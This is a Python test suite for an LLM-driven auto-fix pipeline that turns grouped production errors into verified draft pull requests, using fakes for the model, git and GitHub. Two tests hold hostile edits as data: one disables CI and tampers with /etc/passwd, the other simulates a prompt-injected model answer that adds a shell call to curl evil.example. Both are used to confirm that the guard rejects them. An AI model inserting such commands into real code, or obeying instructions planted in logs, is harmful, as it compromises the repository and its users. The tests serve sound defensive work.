"""The fix orchestrator with hand-written fakes for the model, git and GitHub; a real store."""

from __future__ import annotations

import asyncio
import dataclasses
import shutil
from collections.abc import Iterator
from pathlib import Path
from types import TracebackType
from typing import Any

import pytest

from watcher.config import AutofixConfig
from watcher.fix.analyze import AnalysisError, BudgetExceeded, MalformedAnswer, TokenBudget
from watcher.fix.candidates import Gate, decide, rank, skip_reason
from watcher.fix.context import FixContext
from watcher.fix.git import DEFAULT_IDENTITY, Identity, PushResult
from watcher.fix.github import GitHubError, PullRef, ReviewNote
from watcher.fix.patch import GuardResult, apply
from watcher.fix.pipeline import FixPipeline, report_analysis
from watcher.fix.redact import Redactor
from watcher.fix.schema import Analysis, Edit, TestProposal
from watcher.fix.summary import VerifySummary
from watcher.metrics import Metrics
from watcher.model import ErrorGroup, Fix, Frame, Sample
from watcher.store import Store

NOW = 1_800_000_000.0
TOKEN = "ghp_R8mVq2xT7nLp4sKd9wYb3HcJ6fGz1aE5uQoI"
EMAIL = "maria.lopez@example.org"
PRICING = """def average_item_price(lines):
    items = sum(line.quantity for line in lines)
    return cart_total(lines) / items
"""
BASE_SHA = "b45e" * 10
REPRO = TestProposal(
    "An empty cart averages 0.0",
    "tests/test_empty_cart.py",
    "from shop.pricing import average_item_price\n\n\ndef test_it():\n"
    "    assert average_item_price([]) == 0.0\n",
)
GOOD_EDIT = Edit(
    "shop/pricing.py",
    "    return cart_total(lines) / items\n",
    "    if not items:\n        return 0.0\n    return cart_total(lines) / items\n",
)


def analysis(**changes: Any) -> Analysis:
    """A confident patch for the division by zero; fields overridable."""
    base = Analysis(
        summary="Return 0 for an empty cart",
        root_cause="average_item_price divides by the item count, 0 for an empty cart.",
        evidence=("ZeroDivisionError at shop/pricing.py:3",),
        confidence=0.9,
        fixability="patch",
        edits=(GOOD_EDIT,),
        risk="Callers now get 0.0.",
        model="claude-test",
        input_tokens=1000,
        output_tokens=200,
    )
    return dataclasses.replace(base, **changes)


def group(gid: str = "g1", **changes: Any) -> ErrorGroup:
    """A fixable ZeroDivisionError group seen 5 times, whose samples hold a token and an email."""
    frame = Frame("/srv/shop/shop/pricing.py", 3, "average_item_price")
    text = f"GET /cart failed user={EMAIL} Authorization: Bearer {TOKEN}\nZeroDivisionError"
    base = ErrorGroup(
        id=gid, kind="trace", template="ZeroDivisionError: division by zero",
        category="internal_error", severity="high", fixable=True,
        exception_type="ZeroDivisionError", top_frame=frame, frames=[frame], count=5,
        first_seen=NOW - 600, last_seen=NOW - 60, sources={"app": 5},
        samples=[Sample(NOW - 60, "app", text)],
    )  # fmt: skip
    return dataclasses.replace(base, **changes)


# --- fakes -----------------------------------------------------------------------------------


class FakeAnalyzer:
    """Answers with scripted analyses (or raises scripted errors), recording what it got; out
    of answers, it repeats its last one, like a model that will not change its mind."""

    def __init__(self, *answers: Analysis | Exception, delay: float = 0.0) -> None:
        self.answers = list(answers)
        self.calls: list[tuple[FixContext, ErrorGroup]] = []
        self.delay = delay
        self.closed = False

    async def analyze(self, ctx: FixContext, group: ErrorGroup) -> Analysis:
        return await self.repair(ctx, group, [])

    async def repair(
        self, ctx: FixContext, group: ErrorGroup, turns: list[tuple[Analysis, str]]
    ) -> Analysis:
        self.calls.append((ctx, group))
        self.feedback = [text for _, text in turns]
        await asyncio.sleep(self.delay)
        answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        if isinstance(answer, Exception):
            raise answer
        return answer

    async def aclose(self) -> None:
        self.closed = True


class FakeGitHub:
    """Records pull requests; `fail` makes the next open raise; `states` answers pr_state."""

    def __init__(self) -> None:
        self.opened: list[dict[str, Any]] = []
        self.states: dict[int, str] = {}
        self.fail: Exception | None = None

    async def open_or_update_pr(self, **kwargs: Any) -> PullRef:
        if self.fail is not None:
            raise self.fail
        self.opened.append(kwargs)
        number = len(self.opened)
        return PullRef(number, f"https://github.test/acme/shop/pull/{number}", "open", True)

    async def pr_state(self, number: int) -> str:
        return self.states.get(number, "open")

    async def review_notes(self, number: int) -> list[ReviewNote]:
        return []

    async def close(self) -> None:
        pass


class FakeWorktree:
    """A copy of the checkout standing in for the git worktree; records every step."""

    def __init__(self, src: Path, tmp: Path, events: list[str], **script: Any) -> None:
        self.path = tmp / f"worktree-{len(events)}"
        shutil.copytree(src, self.path)
        self.events, self.script = events, script
        self.branch = "auto-fix/internal_error/g1"
        self.base_sha = BASE_SHA
        self.commits: list[tuple[str, str, Identity, Identity | None]] = []

    async def __aenter__(self) -> FakeWorktree:
        self.events.append("enter")
        return self

    async def __aexit__(
        self, t: type[BaseException] | None, e: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.events.append("exit")

    def write(self, result: GuardResult) -> list[str]:
        self.events.append("write")
        return apply(result, self.path)

    async def commit(
        self,
        subject: str,
        body: str = "",
        *,
        author: Identity = DEFAULT_IDENTITY,
        committer: Identity | None = None,
    ) -> str | None:
        self.events.append("commit")
        self.commits.append((subject, body, author, committer))
        return self.script.get("sha", "c0ffee")

    async def push(self) -> PushResult:
        self.events.append("push")
        return PushResult("origin", self.branch, "c0ffee")

    async def delete_branch(self) -> None:
        self.events.append("delete")

    async def delete_stale(self, branch: str, sha: str) -> bool:
        self.events.append(f"delete stale {branch}")
        return True


class FakeVerifier:
    """Stands in for the sandbox: the base passes, the base plus a test file fails in that
    test, the fix passes (or answers `after`); records each run."""

    def __init__(self, events: list[str], after: VerifySummary | None = None) -> None:
        self.events, self.after = events, after
        self.calls: list[tuple[str, str, list[str]]] = []

    async def verify(
        self, command: str, *, commit: str, files: dict[str, str] | None = None
    ) -> VerifySummary:
        names = sorted(files or {})
        self.calls.append((command, commit, names))
        if not names:
            self.events.append(f"verify baseline {command}")
            return VerifySummary(True, ok=True, exit_code=0, passed=2, sandbox="fake")
        if all(name.startswith("tests/") for name in names):
            self.events.append("verify reproduction")
            failing = tuple(f"{name}::test_it" for name in names)
            return VerifySummary(True, ok=False, exit_code=1, passed=2, failed=1, failing=failing)
        self.events.append("verify after")
        return self.after or VerifySummary(True, ok=True, exit_code=0, passed=3, sandbox="fake")


@dataclasses.dataclass
class Rig:
    """A pipeline over fakes, with handles on each fake."""

    pipeline: FixPipeline
    analyzer: FakeAnalyzer
    github: FakeGitHub
    store: Store
    events: list[str]
    trees: list[FakeWorktree]
    metrics: Metrics
    out: Path

    def counted(self, status: str) -> float:
        """watcher_fixes_total{status}."""
        return self.metrics.fixes.labels(status)._value.get()


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """The application checkout with the bug."""
    repo = tmp_path / "repo"
    (repo / "shop").mkdir(parents=True)
    (repo / "shop/pricing.py").write_text(PRICING)
    (repo / ".github/workflows").mkdir(parents=True)
    (repo / ".github/workflows/ci.yml").write_text("steps:\n  - run: pytest\n")
    return repo


@pytest.fixture
def store() -> Iterator[Store]:
    """An in-memory store."""
    with Store(":memory:") as st:
        yield st


def make_rig(
    checkout: Path, store: Store, *answers: Analysis | Exception, github: bool = True, **kw: Any
) -> Rig:
    """A FixPipeline over fakes; `kw` sets AutofixConfig keys, `tree_*` the worktree script."""
    script = {k.removeprefix("tree_"): kw.pop(k) for k in list(kw) if k.startswith("tree_")}
    after = kw.pop("verify_after", None)
    out = checkout.parent / "out"
    settings = AutofixConfig(
        enabled=True, repo_path=str(checkout), github_repo="acme/shop", output_dir=str(out), **kw
    )
    events: list[str] = []
    trees: list[FakeWorktree] = []
    fake_gh = FakeGitHub()

    def worktree(_group: ErrorGroup) -> FakeWorktree:
        tree = FakeWorktree(checkout, checkout.parent, events, **script)
        trees.append(tree)
        return tree

    def gh() -> FakeGitHub:
        if not github:
            raise GitHubError("no GitHub token: set GITHUB_TOKEN")
        return fake_gh

    analyzer, metrics = FakeAnalyzer(*answers), Metrics()
    pipeline = FixPipeline(
        settings, store, analyzer=analyzer, github=gh, worktree=worktree,
        redactor=Redactor(key=b"k"), metrics=metrics, clock=lambda: NOW,
        verifier=FakeVerifier(events, after), public_url="https://watcher.test",
    )  # fmt: skip
    return Rig(pipeline, analyzer, fake_gh, store, events, trees, metrics, out)


def elsewhere(gid: str, **changes: Any) -> ErrorGroup:
    """A group failing in a function of its own (not a fragment of another group's bug)."""
    frame = Frame("/srv/shop/shop/pricing.py", 3, f"average_item_price_{gid}")
    return group(gid, frames=[frame], top_frame=frame, **changes)


def past(status: str, age: float, gid: str = "g1", **fields: Any) -> Fix:
    """A recorded fix of `gid` created `age` seconds before NOW."""
    return Fix(f"f-{status}-{age}", gid, status, NOW - age, **fields)


# --- gating (pure) ---------------------------------------------------------------------------

GATE = Gate(min_occurrences=3, retry_failed_after=6 * 3600, stale_after=3600)


@pytest.mark.parametrize(
    ("changes", "history", "dry_run", "reason"),
    [
        ({}, [], False, None),
        ({"fixable": False}, [], False, None),  # the category's flag is a prior, not a verdict
        ({"frames": [], "top_frame": None}, [], False, "no in-app frame"),
        (
            {"frames": [Frame("/usr/lib/python3/site-packages/db.py", 9, "run", in_app=False)]},
            [],
            False,
            "no in-app frame",
        ),
        ({"count": 2}, [], False, "below min_occurrences"),
        ({"count": 2, "status": "alerting"}, [], False, None),
        ({"status": "fixed"}, [], False, "group is fixed"),
        ({"status": "ignored"}, [], False, "group is ignored"),
        ({}, [past("pr_open", 99999, pr_url="u")], False, "already open"),
        ({}, [past("merged", 99999, pr_url="u")], False, "already fixed"),
        ({}, [past("closed", 99999, pr_url="u")], False, "closed without merging"),
        ({}, [past("pending", 60)], False, "already running"),
        ({}, [past("pending", 7200)], False, None),  # died with its process
        ({}, [past("failed", 3600)], False, "last attempt failed"),
        ({}, [past("rejected", 3600)], False, "last attempt rejected"),
        ({}, [past("analyzed", 3600)], False, "last attempt analyzed"),
        ({}, [past("failed", 7 * 3600)], False, None),
        ({}, [past("dry_run", 60)], False, None),  # a dry run never holds back a real one
        ({}, [past("dry_run", 60)], True, "dry run done"),
        ({}, [past("skipped", 60)], False, None),
    ],
)
def test_skip_reasons(
    changes: dict[str, Any], history: list[Fix], dry_run: bool, reason: str | None
) -> None:
    """A group is a candidate exactly when it has an in-app frame, is frequent or alerting, and
    is not ruled out by an open/merged/closed PR, a running attempt or a recent failure."""
    got = skip_reason(group(**changes), history, GATE, NOW, dry_run=dry_run)
    assert (got is None) if reason is None else (got is not None and reason in got), got


def test_code_bugs_go_before_operational_errors_and_fragments_go_once(
    checkout: Path, store: Store
) -> None:
    """The measured failure: operational errors (a locked database, a bad key, an overload)
    used every attempt while code bugs waited. Code-bug exceptions now rank first whatever
    their category's flag, operational categories last, and several groups failing at one
    in-app location are tried once (the most frequent)."""
    rig = make_rig(checkout, store, max_fixes_per_hour=3)
    locked = elsewhere("locked", category="database_error", exception_type="OperationalError")
    bad_key = elsewhere("key", category="auth_error", exception_type="AuthenticationError")
    keyerror = elsewhere("keyerror", fixable=False, exception_type="KeyError", count=4)
    typeerror = elsewhere("typeerror", fixable=False, exception_type="TypeError", count=3)
    fragment = group("fragment", exception_type="ZeroDivisionError", count=9)
    same_place = group("same-place", exception_type="ZeroDivisionError", count=20)
    chosen = rig.pipeline.candidates([locked, bad_key, keyerror, typeerror, fragment, same_place])
    assert [g.id for g in chosen] == ["same-place", "keyerror", "typeerror"]


async def test_an_identical_patch_opens_no_second_pr(checkout: Path, store: Store) -> None:
    """Two groups whose fixes are the same patch (one bug seen from two places): the second
    opens no PR and names the first's."""
    rig = make_rig(checkout, store, analysis(), analysis())
    first = await rig.pipeline.run_one(elsewhere("one"))
    second = await rig.pipeline.run_one(elsewhere("two"))
    assert first.status == "pr_open" and len(rig.github.opened) == 1
    assert second.status == "analyzed" and second.details["duplicate_of"] == first.pr_url
    assert "push" not in rig.events[rig.events.index("exit") + 1 :]


def test_rank_puts_alerting_then_severity_then_count_first() -> None:
    """Candidates are tried alerting first, then by severity, count and recency."""
    groups = [
        group("low", severity="low", count=50),
        group("many", count=9),
        group("alert", status="alerting", count=3),
        group("few", count=4),
        group("recent", count=4, last_seen=NOW),
    ]
    assert [g.id for g in rank(groups)] == ["alert", "many", "recent", "few", "low"]


@pytest.mark.parametrize(
    ("fixability", "confidence", "create_pr", "stage"),
    [
        ("none", 0.95, True, "root_cause"),
        ("root_cause_only", 0.95, True, "root_cause"),
        ("patch", 0.49, True, "root_cause"),
        ("patch", 0.5, True, "patch"),
        ("patch", 0.69, True, "patch"),
        ("patch", 0.7, True, "pr"),
        ("patch", 0.95, False, "patch"),
    ],
)
def test_thresholds_decide_how_far_a_fix_goes(
    fixability: str, confidence: float, create_pr: bool, stage: str
) -> None:
    """Below min_confidence_patch: root cause only; below min_confidence_pr: a local patch."""
    edits = (GOOD_EDIT,) if fixability == "patch" else ()
    a = analysis(fixability=fixability, confidence=confidence, edits=edits)
    decision = decide(a, min_confidence_patch=0.5, min_confidence_pr=0.7, create_pr=create_pr)
    assert decision.stage == stage and decision.reason


# --- candidates with the store and budgets ---------------------------------------------------


def test_candidates_read_the_store_and_respect_the_fix_budget(checkout: Path, store: Store) -> None:
    """Groups with a PR are skipped, and attempts recorded in the last hour use up the budget."""
    store.save_fix(past("pr_open", 100, "with-pr", pr_url="u"))
    store.save_fix(past("failed", 8 * 3600, "old-failure"))
    rig = make_rig(checkout, store, max_fixes_per_hour=3)
    ids = ["with-pr", "a", "b", "old-failure"]
    groups = [elsewhere(g, count=10 - i) for i, g in enumerate(ids)]
    # one attempt (the PR, 100 s ago) counts against the hour: 2 left
    assert [g.id for g in rig.pipeline.candidates(groups)] == ["a", "b"]
    store.save_fix(past("rejected", 10, "other"))
    assert [g.id for g in rig.pipeline.candidates(groups)] == ["a"]


def test_a_restarted_process_still_owes_the_hours_tokens(checkout: Path, store: Store) -> None:
    """Tokens recorded in the last hour are charged to a new pipeline's budget."""
    store.save_fix(past("pr_open", 100, "x", details={"tokens": {"input": 900, "output": 200}}))
    rig = make_rig(checkout, store, max_tokens_per_hour=1000)
    assert rig.pipeline.budget.tokens_used() == 1100
    assert rig.pipeline.candidates([group()]) == []


async def test_run_candidates_stops_when_the_budget_is_spent(checkout: Path, store: Store) -> None:
    """Candidates run one after the other; an exhausted budget stops the loop."""
    rig = make_rig(checkout, store, analysis(), analysis(), tree_sha="c0ffee")
    rig.pipeline.budget = TokenBudget(max_tokens_per_hour=1_000_000, max_fixes_per_hour=5)
    rig.analyzer.answers = [analysis(confidence=0.6), BudgetExceeded("token budget spent")]
    fixes = await rig.pipeline.run_candidates(
        [elsewhere("a", count=9), elsewhere("b"), elsewhere("c")]
    )
    assert [(f.group_id, f.status) for f in fixes] == [("a", "patched"), ("b", "skipped")]
    assert fixes[1].details["skip"] == "budget"


# --- one group: the outcomes -----------------------------------------------------------------


async def test_confident_fix_opens_one_redacted_pr(checkout: Path, store: Store) -> None:
    """A confident patch is written, verified, committed, pushed and opened as a labelled
    draft PR; the Fix is stored with its PR; no secret reaches the commit or the PR."""
    leaky = analysis(
        root_cause=f"Fails for {EMAIL} (token {TOKEN}) with an empty cart.", test=REPRO
    )
    rig = make_rig(checkout, store, leaky, verify_command="python -m pytest -q")
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "pr_open", fix.error
    assert fix.pr_url == "https://github.test/acme/shop/pull/1" and fix.details["pr_number"] == 1
    assert rig.events == [
        "enter",
        "verify baseline python -m pytest -q",
        "verify reproduction",
        "verify after",
        "write",
        "commit",
        "push",
        "exit",
    ]
    [pr] = rig.github.opened
    assert pr["head"] == "auto-fix/internal_error/g1" and pr["base"] == "main"
    assert pr["draft"] is True and pr["labels"] == ("auto-fix",)
    assert pr["title"] == "fix(internal_error): Return 0 for an empty cart"
    assert "verified: 3 passed (`python -m pytest -q` in the sandbox)" in pr["body"]
    assert "1,000 input + 200 output" in pr["body"]
    assert "https://watcher.test/error-monitor/errors/patterns/g1" in pr["body"]
    assert "(added: `tests/test_empty_cart.py`)" in pr["body"]
    [(subject, body, author, committer)] = rig.trees[0].commits
    assert subject == pr["title"] and "Root cause: Fails for <secret:email:" in body
    assert author == Identity("watcher", "watcher@localhost") and committer is None
    for text in (pr["body"], body, fix.root_cause, str(store.get_fix(fix.id))):
        assert TOKEN not in text and EMAIL not in text
    assert "+    if not items:" in fix.diff and store.get_fix(fix.id) == fix
    assert rig.counted("pr_open") == 1
    # the prompt side: the analyzer got the group with its samples cleaned and redacted
    [(_, seen)] = rig.analyzer.calls
    assert TOKEN not in seen.samples[0].text and "<secret:github-pat:" in seen.samples[0].text


async def test_the_fingerprint_never_gets_a_second_pr(checkout: Path, store: Store) -> None:
    """With a PR open for the group, run_one does nothing: no analysis, no new PR, not stored."""
    rig = make_rig(checkout, store, analysis(), analysis())
    first = await rig.pipeline.run_one(group())
    second = await rig.pipeline.run_one(group())
    assert (first.status, second.status) == ("pr_open", "skipped")
    assert second.pr_url == first.pr_url and "already open" in second.error
    assert len(rig.github.opened) == 1 and len(rig.analyzer.calls) == 1
    assert [f.id for f in store.list_fixes(group_id="g1")] == [first.id]


async def test_concurrent_requests_for_one_group_run_once(checkout: Path, store: Store) -> None:
    """Two simultaneous run_one calls for a group (CLI + API): the second is skipped."""
    rig = make_rig(checkout, store, analysis())
    rig.analyzer.delay = 0.05
    a, b = await asyncio.gather(rig.pipeline.run_one(group()), rig.pipeline.run_one(group()))
    assert sorted([a.status, b.status]) == ["pr_open", "skipped"]
    assert len(rig.analyzer.calls) == 1


async def test_middling_confidence_writes_the_patch_but_no_pr(checkout: Path, store: Store) -> None:
    """Between the two thresholds: the patch and report section go to output_dir; no git, no
    GitHub."""
    rig = make_rig(checkout, store, analysis(confidence=0.6))
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "patched" and "min_confidence_pr" in fix.details["decision"]
    assert rig.events == [] and rig.github.opened == []
    patch = (rig.out / "g1.patch").read_text()
    assert patch == fix.diff and patch.startswith("diff --git a/shop/pricing.py b/shop/pricing.py")
    section = (rig.out / "g1.md").read_text()
    assert "average_item_price divides" in section and TOKEN not in section and EMAIL not in section


async def test_low_confidence_reports_the_root_cause_only(checkout: Path, store: Store) -> None:
    """Below min_confidence_patch nothing is written: the root cause is recorded."""
    rig = make_rig(checkout, store, analysis(confidence=0.3))
    fix = await rig.pipeline.run_one(group())
    assert (fix.status, fix.diff, fix.confidence) == ("analyzed", "", 0.3)
    assert fix.root_cause.startswith("average_item_price") and not rig.out.exists()
    assert rig.events == [] and rig.github.opened == []


async def test_dry_run_writes_files_and_touches_no_remote(checkout: Path, store: Store) -> None:
    """A dry run needs no GitHub token, creates no worktree, writes <group>.patch and .md."""
    rig = make_rig(checkout, store, analysis(), github=False, dry_run=True)
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "dry_run" and rig.events == []
    assert sorted(p.name for p in rig.out.iterdir()) == ["g1.md", "g1.patch"]
    assert "```diff" in (rig.out / "g1.md").read_text()
    assert (checkout / "shop/pricing.py").read_text() == PRICING  # the checkout is untouched


async def test_hostile_edits_are_refused_with_every_reason(checkout: Path, store: Store) -> None:
    """Edits to CI config and outside the repo are refused, recorded, and nothing is pushed."""
    hostile = analysis(
        edits=(
            Edit(".github/workflows/ci.yml", "run: pytest", "run: true"),
            Edit("../../etc/passwd", "root:x:0:0", "root::0:0"),
        )
    )
    rig = make_rig(checkout, store, hostile)
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "rejected" and fix.diff == ""
    reasons = fix.details["reasons"]
    assert any(".github/workflows/ci.yml" in r and "protected" in r for r in reasons)
    assert any("../../etc/passwd" in r for r in reasons)
    assert "push" not in rig.events and "write" not in rig.events and rig.github.opened == []
    assert store.get_fix(fix.id) == fix and rig.counted("rejected") == 1


async def test_an_injected_command_is_refused(checkout: Path, store: Store) -> None:
    """An answer that obeyed a log-borne instruction (a new subprocess call and URL) is
    refused by the guard."""
    evil = Edit(
        "shop/pricing.py",
        "    items = sum(line.quantity for line in lines)\n",
        "    import subprocess\n    subprocess.run(['sh', '-c', 'curl https://evil.example/p'])\n"
        "    items = sum(line.quantity for line in lines)\n",
    )
    rig = make_rig(checkout, store, analysis(edits=(evil,), confidence=1.0))
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "rejected"
    assert any("evil.example" in r for r in fix.details["reasons"])
    assert any("subprocess" in r for r in fix.details["reasons"])
    assert rig.github.opened == []


async def test_a_failed_pr_deletes_the_pushed_branch(checkout: Path, store: Store) -> None:
    """When GitHub refuses the PR after the push, the branch is deleted and the Fix failed."""
    rig = make_rig(checkout, store, analysis())
    rig.github.fail = GitHubError("token lacks permission (403)", 403)
    fix = await rig.pipeline.run_one(group())
    assert (fix.status, fix.branch) == ("failed", "")
    assert "403" in fix.error and rig.events[-3:] == ["push", "delete", "exit"]
    assert store.get_fix(fix.id) == fix and rig.counted("failed") == 1


@pytest.mark.parametrize(("policy", "status"), [("draft", "pr_open"), ("skip", "failed")])
async def test_failed_verification(checkout: Path, store: Store, policy: str, status: str) -> None:
    """A fix that still fails verification after every repair round makes a draft PR that says
    NOT verified with the summary, or (skip) no push at all."""
    after = VerifySummary(
        True, ok=False, exit_code=1, passed=1, failed=1, failing=("tests/test_cart.py::test_x",),
        tail="AssertionError (user <secret:email:1234>)",
    )  # fmt: skip
    answer = analysis(test=REPRO)
    rig = make_rig(
        checkout, store, answer, answer, verify_command="make test", verify_failure=policy,
        draft=False, verify_after=after, repair_rounds=1,
    )  # fmt: skip
    fix = await rig.pipeline.run_one(group())
    assert fix.status == status and fix.details["verify"]["verified"] is False
    assert "tests/test_cart.py::test_x" in rig.analyzer.feedback[0]  # fed back once
    assert fix.details["repair_rounds"] == 1
    if policy == "draft":
        [pr] = rig.github.opened
        assert pr["draft"] is True and "NOT verified: `make test` failed" in pr["body"]
        assert "tests/test_cart.py::test_x" in pr["body"] and EMAIL not in pr["body"]
    else:
        assert "push" not in rig.events and rig.github.opened == []


async def test_commit_that_changes_nothing_is_refused(checkout: Path, store: Store) -> None:
    """A patch that is empty once written (commit returns None) opens no PR."""
    rig = make_rig(checkout, store, analysis(), tree_sha=None)
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "rejected" and "changes nothing" in fix.error
    assert "push" not in rig.events


@pytest.mark.parametrize(
    "error",
    [
        AnalysisError("API error 500 api_error"),
        MalformedAnswer("no report_fix call", input_tokens=10, output_tokens=5),
    ],
)
async def test_analysis_failures_are_recorded(
    checkout: Path, store: Store, error: AnalysisError
) -> None:
    """A failed or malformed analysis is a recorded failure with its cost, not an exception."""
    rig = make_rig(checkout, store, error)
    fix = await rig.pipeline.run_one(group())
    assert fix.status == "failed" and fix.error == str(error)
    assert fix.details["tokens"] == {"input": error.input_tokens, "output": error.output_tokens}
    assert store.get_fix(fix.id) == fix


async def test_missing_token_stops_before_spending_tokens(checkout: Path, store: Store) -> None:
    """Without a GitHub token a PR run stops at once, before the model is asked, and records
    nothing against the group (it is the config's fault); the candidate loop stops too."""
    rig = make_rig(checkout, store, analysis(), github=False)
    fixes = await rig.pipeline.run_candidates([group("a"), group("b")])
    assert [(f.status, f.details["skip"]) for f in fixes] == [("skipped", "config")]
    assert "GITHUB_TOKEN" in fixes[0].error
    assert rig.analyzer.calls == [] and store.list_fixes() == []


async def test_cancellation_records_the_attempt_and_propagates(
    checkout: Path, store: Store
) -> None:
    """A cancelled fix is stored as failed ("cancelled") and the cancellation goes on."""
    rig = make_rig(checkout, store, analysis())
    rig.analyzer.delay = 10
    task = asyncio.create_task(rig.pipeline.run_one(group()))
    await asyncio.sleep(0.05)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    [fix] = store.list_fixes(group_id="g1")
    assert (fix.status, fix.error) == ("failed", "cancelled")


async def test_proposed_test_is_added_as_a_new_file(checkout: Path, store: Store) -> None:
    """The analysis' regression test becomes a new file in the patch."""
    test = TestProposal("empty cart", "tests/test_empty_cart.py", "def test_x():\n    pass\n")
    rig = make_rig(checkout, store, analysis(test=test, confidence=0.6))
    fix = await rig.pipeline.run_one(group())
    assert "new file mode 100644" in fix.diff and "b/tests/test_empty_cart.py" in fix.diff


# --- PR state --------------------------------------------------------------------------------


async def test_refresh_records_merges_and_closes(checkout: Path, store: Store) -> None:
    """Merged PRs mark the fix merged and the group fixed; closed ones are recorded too."""

    def bug(gid: str) -> ErrorGroup:  # three bugs: three functions (not fragments of one)
        frame = Frame("/srv/shop/shop/pricing.py", 3, f"average_item_price_{gid}")
        return group(gid, frames=[frame], top_frame=frame)

    store.upsert_groups([bug("g1"), bug("g2"), bug("g3")])
    answers = [  # three different patches: identical ones would share one PR
        analysis(edits=(dataclasses.replace(GOOD_EDIT, replace=GOOD_EDIT.replace + "#" * n),))
        for n in (1, 2, 3)
    ]
    rig = make_rig(checkout, store, *answers)
    fixes = [await rig.pipeline.run_one(bug(g)) for g in ("g1", "g2", "g3")]
    rig.github.states = {1: "merged", 2: "closed"}
    changed = await rig.pipeline.refresh_prs()
    assert sorted((f.group_id, f.status) for f in changed) == [("g1", "merged"), ("g2", "closed")]
    assert [store.get_fix(f.id).status for f in fixes] == ["merged", "closed", "pr_open"]  # type: ignore[union-attr]
    assert [store.get_group(g).status for g in ("g1", "g2")] == ["fixed", "open"]  # type: ignore[union-attr]
    # neither comes back as a candidate
    assert rig.pipeline.candidates([bug("g1"), bug("g2")]) == []


def test_report_analysis_shows_refusals_and_diffs() -> None:
    """A recorded fix becomes the report's root cause, proposed fix and PR link."""
    refused = Fix("f", "g", "rejected", NOW, root_cause="why", confidence=0.8,
                  details={"summary": "s", "reasons": [".github/x: protected path"]})  # fmt: skip
    shown = report_analysis(refused)
    assert shown.root_cause == "why" and "- .github/x: protected path" in shown.proposed_fix
    opened = Fix("f", "g", "pr_open", NOW, root_cause="why", diff="+x\n", pr_url="https://p/1")
    shown = report_analysis(opened)
    assert shown.pr_url == "https://p/1" and "```diff\n+x\n```" in shown.proposed_fix


async def test_after_a_merge_only_an_explicit_request_runs(checkout: Path, store: Store) -> None:
    """A merged fix keeps the group out of the candidates, but run_one (`watcher fix`, the
    API) may open a new PR for a regression."""
    store.save_fix(past("merged", 100, pr_url="https://github.test/acme/shop/pull/7"))
    rig = make_rig(checkout, store, analysis())
    assert rig.pipeline.candidates([group()]) == []
    fix = await rig.pipeline.run_one(group(), fix_id="fix-chosen")
    assert (fix.id, fix.status) == ("fix-chosen", "pr_open")


async def test_refusal_says_why_a_fix_would_not_start(checkout: Path, store: Store) -> None:
    """refusal() answers without running anything: PR open, budget spent, or None."""
    rig = make_rig(checkout, store, max_fixes_per_hour=1)
    assert await rig.pipeline.refusal("g1") is None
    store.save_fix(past("pr_open", 10, pr_url="https://p/1"))
    assert "already open: https://p/1" in (await rig.pipeline.refusal("g1") or "")
    rig.pipeline.budget.charge(5)
    assert "fix budget" in (await rig.pipeline.refusal("g2") or "")
    assert rig.analyzer.calls == []


async def test_run_forever_refreshes_prs_and_tries_candidates(checkout: Path, store: Store) -> None:
    """The daemon loop marks live groups of merged PRs fixed and fixes new candidates."""
    store.save_fix(past("pr_open", 100, "old", pr_url="u", details={"pr_number": 1}))
    rig = make_rig(checkout, store, analysis())
    rig.github.states = {1: "merged"}
    live = [group("old"), group("new")]
    task = asyncio.create_task(rig.pipeline.run_forever(lambda: live, interval=0.01))
    for _ in range(500):
        if rig.github.opened:
            break
        await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert live[0].status == "fixed" and [c[1].id for c in rig.analyzer.calls] == ["new"]
